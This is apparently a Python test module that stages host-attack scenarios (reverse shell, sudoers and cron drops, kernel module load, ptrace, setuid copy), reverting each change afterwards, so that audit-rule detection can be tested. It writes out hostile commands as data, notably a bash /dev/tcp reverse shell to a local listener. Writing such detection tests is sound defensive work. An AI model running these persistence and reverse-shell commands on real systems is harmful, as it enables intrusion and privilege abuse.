"""The attack scenarios: how each is set up, run, torn down, and what it must be caught doing.

Recorded here with real tools (``python -m tests.scenarios.defs record`` as root writes
``tests/data/scenarios/<name>.strace`` + sidecar); the kernel tests re-run the same command through the
kernel harness.  Every host change a scenario makes (a user, a file in /etc, a temporary setuid copy)
is undone by its ``prepared`` context manager, also on failure.

No scenario depends on an account of this host: recording and re-runs create a throwaway user
(:func:`throwaway_user`: ``useradd`` with a unique name and a uid >= 1000, ``userdel`` after, also on
failure) and use its uid as the login uid (auid).  Scenarios with ``as_user`` run as that user, the others
as root with that auid.

``must_catch``: the events the suggested rules must make the kernel log, declared here, before any
suggestion exists: (syscall, exe the event's process runs, a path the event names -- None: any).
``broad``: the broad rule of the same category the suggestion is compared with on the baseline.
"""
from __future__ import annotations

import contextlib
import os
import pwd
import secrets
import shutil
import socket
import subprocess
import threading
from dataclasses import dataclass, field
from pathlib import Path

DATA = Path(__file__).resolve().parent.parent / "data" / "scenarios"


@dataclass(frozen=True)
class MustCatch:
    syscall: str
    exe: str | None = None
    path: str | None = None
    success: bool | None = None      #: None: either outcome

    def __str__(self) -> str:
        return (f"{self.syscall} by {self.exe or 'any'}" + (f" on {self.path}" if self.path else "")
                + ("" if self.success is None else " (succeeded)" if self.success else " (failed)"))


BROAD = {
    "all execve": "-a always,exit -F arch=b64 -S execve,execveat",
    "all connect": "-a always,exit -F arch=b64 -S connect",
    "-w /etc -p wa": "-w /etc -p wa",
    "rootcmd": "-a always,exit -F arch=b64 -S execve -F euid=0 -F auid>=1000 -F auid!=unset",
}


@dataclass(frozen=True)
class Scenario:
    name: str
    as_user: bool                    #: run as the throwaway user (False: as root, with its uid as auid)
    must_catch: tuple[MustCatch, ...]
    broad: str                       #: a key of BROAD
    doc: str = ""
    extra: dict = field(default_factory=dict)

    @property
    def trace(self) -> Path:
        return DATA / f"{self.name}.strace"

    def command(self, params: dict) -> list[str]:
        return COMMANDS[self.name](params)


def _uid(user: str) -> int:
    return pwd.getpwnam(user).pw_uid


def _demote(user: str):
    pw = pwd.getpwnam(user)

    def f():
        os.setgroups(os.getgrouplist(pw.pw_name, pw.pw_gid))
        os.setresgid(pw.pw_gid, pw.pw_gid, pw.pw_gid)
        os.setresuid(pw.pw_uid, pw.pw_uid, pw.pw_uid)
    return f


# ---- the throwaway user -----------------------------------------------------------------------
#: The uid the scenarios were recorded with (a throwaway user's); re-runs ask for it again, so the
#: suggested rules that pin the user's uid apply unchanged.  Where it is taken, another free uid >= 1000
#: is used and the test maps the rules' uid filters to it (:func:`map_ids`).
SCENARIO_UID = 2913
_USER_MARK = "tracerule scenario test user (throwaway)"
_USER_PREFIX = "trsc"


@dataclass(frozen=True)
class ThrowawayUser:
    name: str
    uid: int
    gid: int


def _uid_free(uid: int) -> bool:
    try:
        pwd.getpwuid(uid)
    except KeyError:
        return True
    return False


def _free_uids(preferred: int | None):
    if preferred is not None and preferred >= 1000:
        yield preferred
    start = max(1000, preferred or 1000)
    for uid in (*range(start, 60001), *range(1000, start)):
        if uid != preferred and _uid_free(uid):
            yield uid


def _pid_alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        return True
    return True


def _kill_uid_processes(uid: int) -> None:
    """SIGKILL every process whose real uid is ``uid`` (only ever called for a throwaway user's uid)."""
    import signal

    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open(f"/proc/{d}/status") as f:
                ruid = next(int(ln.split()[1]) for ln in f if ln.startswith("Uid:"))
        except (OSError, StopIteration, ValueError):
            continue
        if ruid == uid:
            with contextlib.suppress(OSError):
                os.kill(int(d), signal.SIGKILL)


def _userdel(name: str, uid: int) -> None:
    for attempt in range(3):
        try:
            pwd.getpwnam(name)
        except KeyError:
            return
        res = subprocess.run(["userdel", name], capture_output=True, text=True, timeout=60)
        if res.returncode == 0:
            return
        if res.returncode == 8:          # user busy: a workload of ours still runs as it
            _kill_uid_processes(uid)
            import time
            time.sleep(0.2 * (attempt + 1))
    raise RuntimeError(f"could not remove the throwaway user {name} (uid {uid}): "
                       f"userdel said {res.returncode}: {res.stderr.strip()}")


def _reap_stale_users() -> None:
    """Remove throwaway users an earlier, killed test process left behind (ours by name prefix and
    comment, and the process that created them is gone)."""
    for pw in pwd.getpwall():
        if not (pw.pw_name.startswith(_USER_PREFIX) and pw.pw_gecos.startswith(_USER_MARK + " pid=")):
            continue
        try:
            pid = int(pw.pw_gecos.rsplit("pid=", 1)[1])
        except ValueError:
            continue
        if pid != os.getpid() and not _pid_alive(pid):
            with contextlib.suppress(RuntimeError, OSError, subprocess.SubprocessError):
                _userdel(pw.pw_name, pw.pw_uid)


@contextlib.contextmanager
def throwaway_user(preferred_uid: int | None = SCENARIO_UID):
    """A user created for this test run only: ``useradd`` with a unique name, no home, no login shell,
    no lastlog/faillog entry, uid ``preferred_uid`` when free (else the next free uid >= 1000);
    ``userdel`` when the block exits, also on failure.  Nothing else on the host is touched."""
    _reap_stale_users()
    name = f"{_USER_PREFIX}{os.getpid() % 100000}{secrets.token_hex(3)}"
    made = None
    last = ""
    tries = 0
    for uid in _free_uids(preferred_uid):
        tries += 1
        res = subprocess.run(["useradd", "-M", "-l", "-s", "/usr/sbin/nologin", "-c", f"{_USER_MARK} pid={os.getpid()}",
                              "-u", str(uid), name], capture_output=True, text=True, timeout=60)
        if res.returncode == 0:
            made = uid
            break
        last = res.stderr.strip()
        if res.returncode != 4 or tries >= 5:     # 4: uid already in use (a race); anything else is fatal
            break
    if made is None:
        raise RuntimeError(f"useradd could not create a throwaway user: {last}")
    try:
        pw = pwd.getpwnam(name)
        assert pw.pw_uid == made >= 1000, (pw.pw_uid, made)
        yield ThrowawayUser(name, pw.pw_uid, pw.pw_gid)
    finally:
        _userdel(name, made)


_ID_FIELDS = ("uid", "euid", "suid", "fsuid", "ouid", "obj_uid")


def map_ids(words: list[str], uids: dict[int, int], auids: dict[int, int]) -> list[str]:
    """An auditctl rule's words with the ``=``/``!=`` values of uid fields mapped by ``uids`` and of
    ``auid`` by ``auids`` (ranges such as ``auid>=1000`` stay): the recorded user's ids -> this run's."""
    import re

    out = []
    for i, w in enumerate(words):
        m = re.fullmatch(r"([a-z_]+)(=|!=)(\d+)", w) if i and words[i - 1] == "-F" else None
        if m:
            table = auids if m[1] == "auid" else uids if m[1] in _ID_FIELDS else {}
            v = int(m[3])
            if v in table:
                w = f"{m[1]}{m[2]}{table[v]}"
        out.append(w)
    return out


# ---- set-up / tear-down per scenario ---------------------------------------------------------
@contextlib.contextmanager
def _listener():
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)
    srv.settimeout(30)
    got: list[bytes] = []

    def serve():
        with contextlib.suppress(OSError):
            while True:
                c, _ = srv.accept()
                with c:
                    c.settimeout(5)
                    with contextlib.suppress(OSError):
                        got.append(c.recv(100))
    t = threading.Thread(target=serve, daemon=True)
    t.start()
    try:
        yield {"port": srv.getsockname()[1], "received": got}
    finally:
        # close() alone does not wake a thread blocked in accept(): shut the socket down first, so
        # the thread ends with the scenario (a thread left running makes later tests' forks unsafe)
        with contextlib.suppress(OSError):
            srv.shutdown(socket.SHUT_RDWR)
        srv.close()
        t.join(10)


_ACCOUNT_FILES = ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/subuid", "/etc/subgid",
                  "/etc/passwd-", "/etc/shadow-", "/etc/group-", "/etc/gshadow-", "/etc/subuid-", "/etc/subgid-")
THROWAWAY = "trscen13"


@contextlib.contextmanager
def _account_restore():
    saved = {}
    for f in _ACCOUNT_FILES:
        with contextlib.suppress(OSError):
            st = os.stat(f)
            saved[f] = (Path(f).read_bytes(), st.st_mode, st.st_uid, st.st_gid)
    try:
        with contextlib.suppress(KeyError):
            pwd.getpwnam(THROWAWAY)
            raise RuntimeError(f"user {THROWAWAY} already exists: refusing to touch it")
        yield {"user": THROWAWAY}
    finally:
        with contextlib.suppress(KeyError):
            pwd.getpwnam(THROWAWAY)
            subprocess.run(["userdel", THROWAWAY], capture_output=True, timeout=60)
        for f, (data, mode, uid, gid) in saved.items():
            try:
                if Path(f).read_bytes() != data:
                    Path(f).write_bytes(data)
                os.chown(f, uid, gid)
                os.chmod(f, mode & 0o7777)
            except OSError:
                pass
        for f in _ACCOUNT_FILES:
            if f not in saved and os.path.exists(f):
                os.unlink(f)


@contextlib.contextmanager
def _remove_after(path: str):
    if os.path.exists(path):
        raise RuntimeError(f"{path} exists already: refusing to touch it")
    try:
        yield {"path": path}
    finally:
        with contextlib.suppress(FileNotFoundError):
            os.unlink(path)


FIXED_DIR = "/tmp/tracerule-scenario13"


@contextlib.contextmanager
def _fixed_dir():
    """A fixed directory (rules name files in it by path); removed after -- callers delete their
    rules naming it before this exits (a kernel watch whose directory vanishes leaks audit_n_rules)."""
    if os.path.lexists(FIXED_DIR):
        shutil.rmtree(FIXED_DIR)
    os.mkdir(FIXED_DIR, 0o755)
    os.chmod(FIXED_DIR, 0o755)
    try:
        yield FIXED_DIR
    finally:
        shutil.rmtree(FIXED_DIR, ignore_errors=True)


@contextlib.contextmanager
def _module_file():
    with _fixed_dir() as d:
        p = os.path.join(d, "notamodule.ko")
        Path(p).write_bytes(b"this is not an ELF kernel module\n" * 4)
        yield {"path": p}


@contextlib.contextmanager
def _sleeper(user: str):
    p = subprocess.Popen(["sleep", "60"], preexec_fn=_demote(user), stdin=subprocess.DEVNULL)
    try:
        yield {"pid": p.pid}
    finally:
        p.kill()
        p.wait()


@contextlib.contextmanager
def _suid_copy():
    with _fixed_dir() as d:
        p = os.path.join(d, "id-suid")
        shutil.copy2("/usr/bin/id", p)
        os.chown(p, 0, 0)
        os.chmod(p, 0o4755)
        yield {"path": p}


def prepared(name: str, user: str | None):
    return {
        "revshell": lambda: _listener(),
        "useradd": lambda: _account_restore(),
        "sudoers": lambda: _remove_after("/etc/sudoers.d/tracerule-test"),
        "cron": lambda: _remove_after("/etc/cron.d/tracerule-test"),
        "module": lambda: _module_file(),
        "ptrace": lambda: _sleeper(user or "root"),
        "setuid": lambda: _suid_copy(),
    }[name]()


PY = "/usr/bin/python3"
COMMANDS = {
    "revshell": lambda p: ["/usr/bin/bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{p['port']} && echo id >&3 && exec 3>&-"],
    "useradd": lambda p: ["/usr/sbin/useradd", "-M", "-s", "/usr/sbin/nologin", p["user"]],
    "sudoers": lambda p: ["/usr/bin/bash", "-c", "printf '# tracerule scenario (grants nothing)\\n' > /etc/sudoers.d/tracerule-test"
                          " && chmod 0440 /etc/sudoers.d/tracerule-test && /usr/sbin/visudo -c -q -f /etc/sudoers.d/tracerule-test"],
    "cron": lambda p: ["/usr/bin/bash", "-c", "printf '# tracerule scenario (no job)\\n' > /etc/cron.d/tracerule-test"],
    "module": lambda p: [PY, "-c", "import ctypes, os, sys\n"
                         "libc = ctypes.CDLL(None, use_errno=True)\n"
                         f"fd = os.open({p['path']!r}, os.O_RDONLY)\n"
                         "r = libc.syscall(313, fd, b'', 0)  # finit_module\n"
                         "print('finit_module', r, os.strerror(ctypes.get_errno()))\n"],
    "ptrace": lambda p: ["/usr/bin/timeout", "-s", "INT", "1", "/usr/bin/strace", "-o", "/dev/null", "-p", str(p["pid"])],
    "setuid": lambda p: [p["path"]],
}


SCENARIOS = {s.name: s for s in (
    Scenario("revshell", True, (MustCatch("connect", "/usr/bin/bash"),), "all connect",
             "a reverse shell: bash's /dev/tcp to a listener on 127.0.0.1"),
    Scenario("useradd", False, (MustCatch("execve", "/usr/sbin/useradd", success=True),
                                     MustCatch("rename", "/usr/sbin/useradd", "/etc/passwd")), "-w /etc -p wa",
             "adding a throwaway user (removed after; account files restored)"),
    Scenario("sudoers", False, (MustCatch("openat", "/usr/bin/bash", "/etc/sudoers.d/tracerule-test"),),
             "-w /etc -p wa", "a file dropped into /etc/sudoers.d (removed after)"),
    Scenario("cron", False, (MustCatch("openat", "/usr/bin/bash", "/etc/cron.d/tracerule-test"),),
             "-w /etc -p wa", "cron persistence: a file in /etc/cron.d (removed after)"),
    Scenario("module", False, (MustCatch("finit_module", "/usr/bin/python3.11"),), "rootcmd",
             "an attempt to load a kernel module from an invalid file (fails harmlessly)"),
    Scenario("ptrace", True, (MustCatch("ptrace", "/usr/bin/strace"),), "all execve",
             "strace -p attaching to a sleep of the same user"),
    Scenario("setuid", True, (MustCatch("execve", FIXED_DIR + "/id-suid", success=True),), "rootcmd",
             "a setuid-root copy of id in a temporary directory, run by a user"),
)}


def record_all(names=None) -> None:
    from tracerule.record import RecordOptions, record

    DATA.mkdir(parents=True, exist_ok=True)
    with throwaway_user() as u:
        if u.uid != SCENARIO_UID:
            print(f"note: uid {SCENARIO_UID} is taken here: recording with uid {u.uid} ({u.name})")
        for name, sc in SCENARIOS.items():
            if names and name not in names:
                continue
            user = u.name if sc.as_user else None
            with prepared(name, user) as params:
                res = record(RecordOptions(command=tuple(sc.command(params)), output=str(sc.trace), user=user,
                                           auid=u.uid, force=True))
                print(name, res.exit_status, res.trace)


if __name__ == "__main__":
    import sys

    if len(sys.argv) >= 2 and sys.argv[1] == "record":
        record_all(sys.argv[2:])
    else:
        print("usage: python -m tests.scenarios.defs record [NAME...]   (as root)")
